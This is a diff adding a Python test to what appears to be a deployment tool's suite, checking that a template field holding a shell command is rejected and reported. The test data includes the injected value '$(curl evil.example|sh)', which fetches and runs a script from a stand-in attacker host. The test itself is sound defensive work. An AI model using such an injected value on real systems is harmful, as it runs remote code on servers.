@@ -161,6 +161,19 @@ def test_user_data_is_the_template_or_three_lines() -> None:
     assert design(documents).user_data == "c50 Web 012345670123 |web ${X}"
 
 
+def test_a_value_that_a_shell_could_run_leaves_the_group_as_it_is_and_says_so() -> None:
+    documents = with_fields("EnvironmentType", "Staging", puppetBranch="$(curl evil.example|sh)")
+    documents["DeploymentMap", "web"] = with_role(userData="linux")["DeploymentMap", "web"]
+    documents["Template", "linux"] = {"text": "#!/bin/bash\nBRANCH={{ puppetBranch }}\n"}
+    told = found(documents)
+    ((name, lack),) = told.troubles.items()
+    assert (name, told.groups) == (WEB, {})
+    assert "puppetBranch is '$(curl evil.example|sh)'" in lack.what
+    assert lack.fix == "correct it, or leave puppetBranch out"
+    documents["Template", "linux"] = {"text": "#!/bin/bash\n"}
+    assert design(documents).user_data == "#!/bin/bash\n", "only what a template names counts"
+
+
 def test_a_filled_in_template_may_be_too_long() -> None:
     documents = with_role(userData="linux", contactEmailTag="everybody-of-the-team@acme.example")
     documents["Template", "linux"] = {"text": "{{ contactEmail }}" * 900}
